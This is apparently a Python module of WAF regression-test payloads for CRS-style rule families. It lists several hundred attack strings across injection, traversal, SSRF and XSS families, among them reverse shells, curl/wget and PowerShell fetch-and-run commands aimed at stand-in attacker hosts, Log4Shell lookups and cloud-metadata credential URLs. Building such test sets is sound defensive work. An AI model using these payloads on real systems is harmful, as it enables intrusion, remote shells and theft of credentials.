"""Blind positive tests for the request-rule titles later CRS releases (4.x) added at paranoia levels 1-2, in
depth: for each title the canonical attack, one payload per alternative the family covers, then variants (case,
whitespace, quoting, and percent or JSON encodings a server decodes), 12 to 16 per title; and benign requests
that carry the same words innocently.

Families and sub-families (one sub per title):
- rce: unix-command-injection (no evasion), unix-evasion, unix-shell-alias, unix-shell-history,
  unix-pipe-short-commands (2-3 letter commands behind a pipe), sqlite-system-command (.shell / .system),
  mail-protocol-command (SMTP / IMAP / POP3 verbs after a line break), windows-command-injection (cmd,
  PowerShell, caret and quote evasions), shell-code-in-headers (Shellshock and substitutions in User-Agent,
  Referer and another header), direct-unix-execution (absolute paths and wildcards).
- php: php-wrapper-scheme, php-variable-function-call (string, array, concatenated and variable callees).
- generic: nodejs-injection-1, nodejs-injection-2, ssrf-cloud-metadata, ssrf-ip-address-url (dotted, decimal,
  octal, hex, IPv6 forms), prototype-pollution (parameter names and JSON keys), ruby-injection, perl-injection,
  nodejs-dos, php-data-scheme.
- xss: javascript-method, javascript-function-without-parentheses, angularjs-template-injection.
- sqli: json-sql-injection, mysql-scientific-notation, sql-auth-bypass-split-query, sql-auth-bypass-basic.
- lfi: os-file-in-headers, path-traversal.
- java: log4shell, java-class-loading, java-script-upload (multipart file names, X-File-Name),
  suspicious-java-method.

Placements: every payload is sent twice. Once on one of our real routes, rotating per sub-family over the
places that fit it: the query of /api/users, the admin search form (/admin/users/search with csrf_token), a
JSON field of /api/users, a cookie, the User-Agent, the Referer, another header (X-Client-Info, X-File-Name), a
parameter name, an XML body, a multipart field or file name, or a segment of the URL path. Once the way a WAF's
regression suite sends it ("rs-" placements): to a path that is not our route (/, /index.php, /get, /post,
/search, /api/v1/items) with an arbitrary parameter name (foo, var, x, test, id, arg1) in a query string, a form
body, a JSON body, an XML body, the User-Agent, the Referer, a custom header or a cookie. Payloads written
already percent-encoded go only where a server url-decodes (query, form, path, cookie); raw parameter strings
(prototype pollution, class-loader binding) go as query strings or form bodies; raw JSON documents as JSON bodies.

Authorship and independence: written from general knowledge and the rule titles alone (wording approximate),
without reading the WAF engine or rules, any ruleset's regression tests, other blind sets or any public payload
list; measured once through the real stack on unchanged code, payloads not changed afterwards. Deterministic: no
clock, no randomness.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Generator, Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, prose_request
from .records import numbered, print_records

NAME = "fiftythird"


class Enc(str):
    """A payload written already percent-encoded: sent as is, only where a server url-decodes."""


class QS(str):
    """A raw query string or form body (name=value pairs, already encoded)."""


class Doc(str):
    """A raw JSON document, sent as the whole body."""


# ---------------------------------------------------------------------------------------------------- rce
UNIX_COMMAND = [
    ";cat /etc/passwd",
    "| id",
    "&& whoami",
    "$(uname -a)",
    "`id`",
    "; ls -la /var/www",
    "|| curl http://203.0.113.50/x.sh | sh",
    "; wget -q -O /tmp/x http://attacker.example/x; chmod +x /tmp/x; /tmp/x",
    "; nc -e /bin/sh 203.0.113.50 4444",
    Enc("%0Aid"),
    "; ping -c 4 203.0.113.50",
    "127.0.0.1; cat /etc/shadow",
    "x & sleep 10 &",
    "; echo pwned > /var/www/html/p.txt",
    ";\tcat\t/etc/hosts",
    Enc("%3B%20cat%20%2Fetc%2Fpasswd"),
]
UNIX_EVASION = [
    ";c'a't /etc/passwd",
    ";c\"a\"t /etc/passwd",
    ";c\\at /et\\c/pas\\swd",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";ca$@t /etc/passwd",
    ";who$()ami",
    ";w\\ho\\am\\i",
    ";$(printf '\\x69\\x64')",
    ";echo${IFS}aWQ=|base64${IFS}-d|sh",
    ";c$(echo a)t /etc/hostname",
    ";/bin/c[a]t /etc/passwd",
    ";X=i;Y=d;$X$Y",
    ";cat</etc/passwd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
]
UNIX_ALIAS = [
    ";alias ls='rm -rf /tmp/data'",
    "; alias x=id; x",
    "&& alias sudo='echo pwned'",
    ";\\alias ll=\"cat /etc/passwd\"; ll",
    "| alias g='grep root /etc/passwd'; g",
    "$(alias c=cat; c /etc/shadow)",
    "`alias w=whoami;w`",
    ";alias  x='curl attacker.example|sh'",
    ";alias\tl=ls",
    "; alias -p",
    "; alias cd='rm -rf'",
    "|| alias ls=\"nc -e /bin/sh 203.0.113.50 4444\"",
    ";unalias -a; alias ls=id",
    Enc("%3Balias%20x%3Did%3Bx"),
]
UNIX_HISTORY = [
    ";!!",
    ";!-2",
    "| !-1",
    "&& !!",
    ";!ca",
    ";!?passwd?",
    "$(!-1)",
    ";!$",
    ";!!:s/ls/id/",
    ";^ls^id",
    "`!-3`",
    "; !cat:p",
    "|| !#",
    ";!-1:0",
    Enc("%3B%21%21"),
]
UNIX_PIPES = [
    "|id",
    "| ls -la",
    "|ps aux",
    "| env",
    "|who",
    "| w",
    "|df -h",
    "|nl /etc/passwd",
    "| od -c /etc/passwd",
    "|dd if=/etc/passwd",
    "|tac /etc/passwd",
    "| xxd /etc/shadow",
    "|awk '{print}' /etc/passwd",
    "|sed -n p /etc/hosts",
    "|sh",
    "||pwd",
]
SQLITE_SYSTEM = [
    "';.shell id;--",
    ".system ls -la",
    "\n.shell cat /etc/passwd",
    "1;.system whoami",
    ".SHELL id",
    "; .system \"uname -a\"",
    ".shell    curl http://attacker.example/x|sh",
    Enc("%0A.shell%20id"),
    "x'\n.system id\n",
    ".shell\tid",
    "');.shell nc 203.0.113.50 4444 -e /bin/sh",
    ".System id",
    "select 1;\n.shell ls",
    ".shell /bin/sh -c id",
]
MAIL_COMMAND = [
    "x\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nspam\r\n.\r\n",
    "user@example.com\r\nVRFY root",
    "a@example.com\r\nEXPN admins",
    "a@example.com\r\nHELO attacker.example",
    "a@example.com\r\nRCPT TO:<other@example.org>",
    "x\r\nRSET\r\nQUIT",
    "INBOX\r\nA001 LOGIN admin guess",
    "INBOX\r\na002 SELECT INBOX",
    "1\r\nA003 FETCH 1:* (BODY[])",
    "x\r\nA004 UID SEARCH ALL",
    "x\r\nUSER admin\r\nPASS guess",
    "1\r\nRETR 1",
    "1\r\nDELE 1",
    Enc("a%40example.com%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E"),
    "a\nA1 CAPABILITY",
]
WINDOWS_COMMAND = [
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "| cmd /c whoami",
    "& ipconfig /all",
    "& ping -n 5 127.0.0.1",
    "| powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\"",
    "& certutil -urlcache -split -f http://attacker.example/a.exe a.exe",
    "&c^m^d /c who^ami",
    "&\"who\"ami",
    "& %COMSPEC% /c dir",
    "| p^o^w^e^r^s^h^e^l^l -c gci env:",
    "& powershell -enc dwBoAG8AYQBtAGkA",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "& CMD.EXE /C DIR",
    "& wmic process call create calc.exe",
]
SHELL_HEADERS = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /usr/bin/id",
    "() { ignored; }; /bin/cat /etc/passwd",
    "$(curl http://attacker.example/s.sh|sh)",
    "`wget -O- http://attacker.example/x|sh`",
    "Mozilla/5.0; cat /etc/passwd",
    "() { _; } >_[$($())] { /bin/id; }",
    "curl/8.0 $(id)",
    "() {:;}; /bin/sleep 20",
    "x; bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    "() { :; }; /usr/bin/wget http://attacker.example/p -O /tmp/p",
    "|| /bin/nc -e /bin/sh 203.0.113.50 4444",
    "https://www.example.com/$(whoami)",
    "python-requests/2.31 `uname -a`",
]
DIRECT_UNIX = [
    "/bin/sh -c id",
    "/usr/bin/id",
    "/bin/cat /etc/passwd",
    "/usr/bin/wget http://attacker.example/x -O /tmp/x",
    "/???/??t /???/??ss??",
    "/bin/b??h -c id",
    "/usr/bin/python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "/bin/busybox nc 203.0.113.50 4444 -e sh",
    "/sbin/ifconfig -a",
    "/usr/bin/curl -d @/etc/passwd http://attacker.example/",
    "/u?r/b?n/id",
    "/usr/*/id",
    "/bin/bash -i",
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",
    "/bin/[c]at /etc/hostname",
    "/usr/bin/env sh",
]

# ---------------------------------------------------------------------------------------------------- php
PHP_WRAPPER = [
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://input",
    "PHP://filter/string.toupper/resource=config.php",
    "php://fd/0",
    "phar://uploads/avatar.jpg/shell.php",
    "zip://uploads/a.zip#shell.php",
    "compress.zlib://config.php",
    "compress.bzip2://backup.bz2",
    "expect://id",
    "glob://*.php",
    "ogg://attacker.example/a.ogg",
    "rar://uploads/x.rar#shell.php",
    "ssh2.exec://user:pw@203.0.113.50:22/id",
    Enc("php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3D%2Fetc%2Fpasswd"),
    "php://memory",
    "pHp://InPuT",
]
PHP_VARIABLE_FUNCTION = [
    "$_GET['a']($_GET['b']);",
    "$f('id');",
    "\"system\"('id');",
    "('sys'.'tem')('id');",
    "$a['x']('whoami');",
    "${'_POST'}['f']('id');",
    "['system'][0]('id');",
    "$x{0}('ls');",
    "\"\\x73ystem\"(\"id\");",
    "(chr(115).'ystem')('id');",
    "$_COOKIE['c']($_COOKIE['d']);",
    "@$_REQUEST['x']($_REQUEST['y']);",
    "$$x('id');",
    "'SYSTEM' ('id');",
    "$f /**/ ('id');",
    "[$obj, 'run']('id');",
]

# ---------------------------------------------------------------------------------------------------- generic
NODE_1 = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\")",
    "process.mainModule.require('child_process').spawn('sh')",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "require ( 'child_process' ) . exec ( 'whoami' )",
    "global.process.mainModule.constructor._load('child_process').exec('id')",
    "require('fs').readFileSync('/etc/passwd','utf8')",
    "require('fs').writeFileSync('/tmp/x.js','x')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id']})",
    "process.kill(process.pid)",
    "process.exit(1)",
    "require('child'+'_process').exec('id')",
    "module.require('child_process').fork('/tmp/x.js')",
    "child_process.execFile('/bin/id')",
    "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('ls /')}()\"}",
    Enc("require%28%27child_process%27%29.exec%28%27id%27%29"),
]
NODE_2 = [
    "this.constructor.constructor('return process')()",
    "[].constructor.constructor('return process')().mainModule",
    "''.sub.constructor('return this.process')()",
    "new Function('return process.env')()",
    "Function('return require')()('child_process')",
    "eval(String.fromCharCode(114,101,113,117,105,114,101))",
    "eval(Buffer.from('cmVxdWlyZQ==','base64').toString())",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
    "vm.runInThisContext('process.exit()')",
    "Reflect.construct(Function, ['return process'])()",
    "(()=>{}).constructor('return process')()",
    "Object.getPrototypeOf(async function(){}).constructor('return process')()",
    "import('child_process').then(m=>m.execSync('id'))",
    "globalThis['pro'+'cess']['mainModule']",
    "setTimeout('process.exit()', 0)",
    "this . constructor . constructor ( 'return process' ) ( )",
]
SSRF_METADATA = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials",
    "http://192.0.0.192/latest/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "HTTP://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
]
SSRF_IP = [
    "http://127.0.0.1/admin",
    "http://10.0.0.5:8080/actuator/env",
    "http://192.168.1.1/",
    "https://172.16.0.10:2375/containers/json",
    "http://2130706433/",
    "http://0177.0.0.01/",
    "http://0x7f000001/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://[::1]/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://127.1/",
    "gopher://10.0.0.8:6379/_INFO",
    "ftp://192.168.0.20/pub/",
    "http://user@10.1.2.3/",
    "dict://172.17.0.1:11211/stats",
    "HTTP://[::FFFF:7F00:1]/",
]
PROTO_POLLUTION = [
    QS("__proto__[isAdmin]=true"),
    QS("__proto__.role=admin"),
    QS("constructor[prototype][admin]=1"),
    QS("user[__proto__][admin]=1"),
    QS("a%5B__proto__%5D%5Bpolluted%5D=1"),
    QS("constructor.prototype.isAdmin=true"),
    QS("path=__proto__.isAdmin&value=true"),
    QS("x[constructor][prototype][shell]=%2Fbin%2Fsh"),
    Doc('{"__proto__":{"isAdmin":true}}'),
    Doc('{"name":"a","__proto__":{"role":"admin"}}'),
    Doc('{"constructor":{"prototype":{"isAdmin":true}}}'),
    Doc('{"profile":{"__proto__":{"polluted":1}}}'),
    Doc('{"\\u005f_proto__":{"x":1}}'),
    Doc('{"a":[{"__proto__":{"b":1}}]}'),
    Doc('{"__proto__" : {"outputFunctionName":"x;process.mainModule.require(\'child_process\').exec(\'id\');s"}}'),
]
RUBY = [
    "Kernel.exec('id')",
    "Kernel.system(\"cat /etc/passwd\")",
    "%x(id)",
    "%x{uname -a}",
    "IO.popen('id').read",
    "Open3.capture2('id')",
    "eval(\"system('id')\")",
    "instance_eval('`id`')",
    "send(:system, 'id')",
    "Object.const_get(:Kernel).public_send(:system, 'id')",
    "File.read('/etc/passwd')",
    "Process.spawn('id')",
    "ERB.new(\"<%= `id` %>\").result",
    "YAML.load(\"--- !ruby/object:Gem::Installer\\ni: x\")",
    "\"#{system('id')}\"",
    "open('|id').read",
]
PERL = [
    "@{[system 'id']}",
    "@{[ `id` ]}",
    "@{[qx(cat /etc/passwd)]}",
    "qx{id}",
    "qx(uname -a)",
    "exec('/bin/sh')",
    "open(F, \"|id\"); print <F>",
    "eval \"system(q{id})\"",
    "print ${\\ system('id')}",
    "perl -e 'system(\"id\")'",
    "use IPC::Open3; open3(my $in, my $out, undef, 'id')",
    "do '/tmp/x.pl'",
    "sub { system q(id) }->()",
    "@{ [ system('id') ] }",
    "${\\`id`}",
]
NODE_DOS = [
    "while(true){}",
    "while(1);",
    "for(;;){}",
    "for(;;);",
    "do{}while(true)",
    "while (true) { }",
    "while(!0){}",
    "while(1==1){}",
    "for ( ; ; ) { }",
    "(function f(){f()})()",
    "'a'.repeat(1e9)",
    "new Array(1e9).fill(0)",
    "process.nextTick(function f(){process.nextTick(f)})",
    "new Promise(()=>{while(true){}})",
    "JSON.parse('['.repeat(1e6))",
]
PHP_DATA = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+",
    "DATA://text/plain;base64,PD9waHAgaWQ7",
    "data://application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==",
    "data:text/plain,<?=`id`?>",
    "data://text/plain, <?php system('id');",
    Enc("data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOz8%2B"),
    "data://text/plain;charset=utf-8;base64,PD9waHAgZWNobyAxOw==",
    "Data://Text/Plain;Base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7",
    "data:text/x-php;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCdscycpOw==",
    "data://,<?php echo 1;?>",
    "data: text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==",
]

# ---------------------------------------------------------------------------------------------------- xss
JS_METHOD = [
    "alert(1)",
    "eval('al'+'ert(1)')",
    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(document.cookie)\",1000)",
    "prompt(document.domain)",
    "confirm(1)",
    "atob('YWxlcnQoMSk=')",
    "btoa(document.cookie)",
    "new Function('alert(1)')()",
    "ALERT (1)",
    "eval\t(name)",
    "x\";alert(1);//",
    "';eval(location.hash.slice(1));//",
    "javascript:alert(document.cookie)",
    Enc("%27%3Balert%281%29%3B%2F%2F"),
    "window.alert(1)",
]
JS_NO_PARENS = [
    "alert`1`",
    "eval`alert\\x281\\x29`",
    "onerror=alert;throw 1",
    "{onerror=eval}throw'=alert\\x281\\x29'",
    "setTimeout`alert\\u00281\\u0029`",
    "[].constructor.constructor`alert\\x601\\x60```",
    "location='javascript:alert\\x281\\x29'",
    "[1].find(alert)",
    "window.onerror=alert;throw document.cookie",
    "top['al'+'ert']`1`",
    "valueOf=alert;window+''",
    "toString=alert;''+window",
    "'alert\\x281\\x29' instanceof {[Symbol.hasInstance]: eval}",
    "prompt`1`",
    "confirm `document.domain`",
    "x=alert,x`1`",
]
ANGULAR = [
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
    "<div ng-app ng-csp>{{$event.view.alert(1)}}</div>",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{ 7 * 7 }}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    Enc("%7B%7Bconstructor.constructor%28%27alert%281%29%27%29%28%29%7D%7D"),
    "{{$new.constructor('alert(1)')()}}",
    "{{ constructor.constructor ( 'alert(document.cookie)' ) ( ) }}",
    "<input ng-focus=$event.view.alert(1) autofocus>",
    "{{'a'.sub.call.call({}[$='constructor'].getOwnPropertyDescriptor(_=$.getPrototypeOf($),$).value,0,'alert(1)')()}}",
    "{{ [].join.constructor('alert(1)')() }}",
]

# ---------------------------------------------------------------------------------------------------- sqli
JSON_SQLI = [
    "' or '{\"a\":1}' @> '{\"a\":1}'--",
    "1 or '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb",
    "1' and json_extract('{\"id\":1}','$.id')=1 --",
    "' or JSON_EXTRACT('{\"a\":1}', '$.a') = 1 #",
    "1 or json_array_length('[]') <= 1",
    "' OR '[1]'::jsonb ? '1' --",
    "1' or data->>'role' = 'admin' --",
    "1 or attributes->'$.admin' = true",
    "' or json_valid('{}') --",
    "' or JSON_CONTAINS('{\"a\":1}','1','$.a')--",
    "1 or '{\"a\":1}'::json->>'a' = '1'",
    "'||(select json_object('k',user()))||'",
    "' or JSON_KEYS('{\"a\":1}') is not null -- ",
    "1) or ('{}' @> '{}'",
    "1' OR JSON_TYPE('[]')='ARRAY'--",
]
SCI_NOTATION = [
    "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70 or'1'='2",
    "' or 1.e(1) or '1'='1",
    "0.e1union select 1,2,3--",
    "1.e1or 1=1-- ",
    "2.e(select user()) -- ",
    "' 1.e('')union select @@version#",
    "1.e)or(1=1",
    "1 1.e.x union select table_name from information_schema.tables",
    "' or 1e0union select null,null--",
    "1.E(ASCII(1.E(SUBSTR(USER(),1,1))))=114 or '1'='2",
    "9.e3union all select load_file('/etc/passwd')",
    "' AND 1.e(1)=1.e(1) AND '1'='1",
    "1 .e(1) or 1=1",
    Enc("1.e%28ascii%201.e%28substring%28user%28%29%2C1%2C1%29%29%29%3D114"),
]
SPLIT_QUERY = [
    "admin';--",
    "admin'; --",
    "' ; drop table users; --",
    "x';/*",
    "'; exec xp_cmdshell 'dir'--",
    "';shutdown --",
    "admin'); --",
    "1'; update users set role='admin' where name='bob'; --",
    "\";--",
    "admin\"; #",
    "'; select * from users where 'a'='a",
    "x'; waitfor delay '0:0:5'--",
    "admin';-- -",
    Enc("admin%27%3B--"),
    "';DECLARE @x varchar(99);--",
]
AUTH_BYPASS = [
    "admin' or '1'='1",
    "' or ''='",
    "' OR 1=1 --",
    "admin'--",
    "' or true#",
    "'='",
    "'-'",
    "' is not null --",
    "\" or \"\"=\"",
    "' like '%",
    "' xor 1 #",
    "' or 'x' in ('x') --",
    "'||'1'='1",
    "admin') or ('1'='1",
    "' Or 'A'='a",
    "'   OR   2>1 --",
]

# ---------------------------------------------------------------------------------------------------- lfi
HEADER_FILES = [
    "/etc/passwd",
    "../../../../etc/passwd",
    "/proc/self/environ",
    "C:\\Windows\\win.ini",
    "/etc/shadow",
    "/var/www/html/.htaccess",
    "..\\..\\web.config",
    "/var/log/apache2/access.log",
    "/home/ubuntu/.ssh/id_rsa",
    "/proc/self/cmdline",
    "c:\\boot.ini",
    "/app/.git/config",
    "/var/www/.env",
    "/root/.bash_history",
    "file:///etc/group",
    "Mozilla/5.0 (../../etc/passwd)",
]
TRAVERSAL = [
    "../../../etc/passwd",
    "/.../.../.../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    Enc("..%2f..%2f..%2fetc%2fpasswd"),
    Enc("%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    Enc("..%252f..%252fetc%252fpasswd"),
    Enc("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    "..;/..;/WEB-INF/web.xml",
    ".../.../etc/hosts",
    "/var/www/../../etc/shadow",
    Enc("%2e%2e%5c%2e%2e%5cboot.ini"),
    "images/../../../../proc/self/environ",
    Enc(".%2e/.%2e/etc/passwd"),
    "..//..//..//etc//passwd",
    Enc("..%2f..%2fetc%2fpasswd%00.png"),
]

# ---------------------------------------------------------------------------------------------------- java
LOG4SHELL = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://attacker.example/obj}",
    "${jndi:dns://attacker.example/x}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://attacker.example/a}",
    "${jNdI:LdAp://attacker.example/a}",
    Enc("%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    "${${upper:j}ndi:ldaps://attacker.example/a}",
    "${jndi:ldap://${env:USER}.attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${jndi:iiop://attacker.example/a}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://attacker.example/a}",
    "${j${::-n}di:corba://attacker.example/a}",
    "${${sys:x:-j}ndi:nis://attacker.example/a}",
]
CLASS_LOADING = [
    QS("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    QS("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    QS("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps%2FROOT"),
    QS("class.classLoader.resources.dirContext.docBase=%2F"),
    QS("Class.Module.ClassLoader.URLs%5B0%5D=http%3A%2F%2Fattacker.example%2Fx.jar"),
    QS("class%5Bmodule%5D%5BclassLoader%5D%5Bresources%5D=1"),
    QS("class.module.classLoader.DefaultAssertionStatus=true"),
    "getClass().getClassLoader().loadClass('java.lang.Runtime')",
    "Thread.currentThread().getContextClassLoader().loadClass(\"Evil\")",
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})",
    "defineClass(\"Evil\", bytes, 0, bytes.length)",
    "''.class.classLoader.loadClass('x')",
    "#{request.getClass().getClassLoader()}",
    "com.sun.org.apache.bcel.internal.util.ClassLoader",
    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A",
]
JAVA_UPLOAD = [
    "shell.jsp",
    "cmd.jspx",
    "x.JSP",
    "a.jsp;.jpg",
    "avatar.png.jsp",
    "x.jsp.",
    "x.jspf",
    "upload.jSp",
    "test.jsp::$DATA",
    "../../webapps/ROOT/cmd.jsp",
    "shell.jsp%00.png",
    "index.jspx ",
    "x.jsp/",
    "cmd.JsPx",
]
JAVA_METHOD = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "java.lang.System.getProperty(\"user.home\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\")",
    "new java.io.FileInputStream(\"/etc/passwd\")",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "java.lang.reflect.Method m = c.getDeclaredMethod(\"exec\", String.class);",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "sun.misc.Unsafe.getUnsafe()",
    "java.lang.Thread.sleep(5000)",
    "new javax.naming.InitialContext().lookup(\"ldap://attacker.example/a\")",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "java.lang.System.exit(0)",
    "java . lang . Runtime . getRuntime ( ) . exec ( 'id' )",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
]

# ------------------------------------------------------------------------------------------------ placements
VALUES = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "xml", "multipart-field",
          "header:X-Client-Info", "param-name"]
RS_VALUES = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-header:Referer",
             "rs-header:X-Custom", "rs-cookie"]
BODIES = ["query", "form", "json", "xml", "multipart-field"]
RS_BODIES = ["rs-query", "rs-form", "rs-json", "rs-xml"]
HEADERS = ["header:User-Agent", "header:Referer", "header:X-Client-Info", "cookie"]
RS_HEADERS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie"]
SHELL_HEADER_PLACES = ["header:User-Agent", "header:Referer", "header:X-Client-Info"]
RS_SHELL_HEADER_PLACES = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom"]
URL_VALUES = ["query", "form", "json", "xml", "multipart-field", "cookie"]
XSS_VALUES = ["query", "form", "json", "cookie", "header:Referer", "xml", "multipart-field", "param-name", "path"]
TRAVERSAL_PLACES = ["path", "query", "form", "json", "cookie", "xml"]
UPLOAD_PLACES = ["multipart-filename", "header:X-File-Name"]
RS_UPLOAD_PLACES = ["rs-multipart-filename", "rs-header:X-Filename"]

# (category, sub, payloads, real-route placements, regression-suite placements)
TITLES: list[tuple[str, str, list[str], list[str], list[str]]] = [
    ("rce", "unix-command-injection", UNIX_COMMAND, VALUES, RS_VALUES),
    ("rce", "unix-evasion", UNIX_EVASION, VALUES, RS_VALUES),
    ("rce", "unix-shell-alias", UNIX_ALIAS, VALUES, RS_VALUES),
    ("rce", "unix-shell-history", UNIX_HISTORY, VALUES, RS_VALUES),
    ("rce", "unix-pipe-short-commands", UNIX_PIPES, VALUES, RS_VALUES),
    ("rce", "sqlite-system-command", SQLITE_SYSTEM, VALUES, RS_VALUES),
    ("rce", "mail-protocol-command", MAIL_COMMAND, BODIES, RS_BODIES),
    ("rce", "windows-command-injection", WINDOWS_COMMAND, VALUES, RS_VALUES),
    ("rce", "shell-code-in-headers", SHELL_HEADERS, SHELL_HEADER_PLACES, RS_SHELL_HEADER_PLACES),
    ("rce", "direct-unix-execution", DIRECT_UNIX, VALUES, RS_VALUES),
    ("php", "php-wrapper-scheme", PHP_WRAPPER, URL_VALUES + ["header:Referer"], RS_VALUES),
    ("php", "php-variable-function-call", PHP_VARIABLE_FUNCTION, VALUES, RS_VALUES),
    ("generic", "nodejs-injection-1", NODE_1, VALUES, RS_VALUES),
    ("generic", "nodejs-injection-2", NODE_2, VALUES, RS_VALUES),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA, URL_VALUES, RS_BODIES),
    ("generic", "ssrf-ip-address-url", SSRF_IP, URL_VALUES, RS_BODIES),
    ("generic", "prototype-pollution", PROTO_POLLUTION, ["param-name", "form", "json"], ["rs-query", "rs-form",
                                                                                       "rs-json"]),
    ("generic", "ruby-injection", RUBY, VALUES, RS_VALUES),
    ("generic", "perl-injection", PERL, VALUES, RS_VALUES),
    ("generic", "nodejs-dos", NODE_DOS, VALUES, RS_VALUES),
    ("generic", "php-data-scheme", PHP_DATA, URL_VALUES, RS_VALUES),
    ("xss", "javascript-method", JS_METHOD, XSS_VALUES, RS_VALUES),
    ("xss", "javascript-function-without-parentheses", JS_NO_PARENS, XSS_VALUES, RS_VALUES),
    ("xss", "angularjs-template-injection", ANGULAR, XSS_VALUES, RS_VALUES),
    ("sqli", "json-sql-injection", JSON_SQLI, ["query", "form", "json", "cookie", "xml"], RS_VALUES),
    ("sqli", "mysql-scientific-notation", SCI_NOTATION, VALUES, RS_VALUES),
    ("sqli", "sql-auth-bypass-split-query", SPLIT_QUERY, VALUES, RS_VALUES),
    ("sqli", "sql-auth-bypass-basic", AUTH_BYPASS, VALUES, RS_VALUES),
    ("lfi", "os-file-in-headers", HEADER_FILES, HEADERS, RS_HEADERS),
    ("lfi", "path-traversal", TRAVERSAL, TRAVERSAL_PLACES, RS_BODIES),
    ("java", "log4shell", LOG4SHELL, VALUES, RS_VALUES),
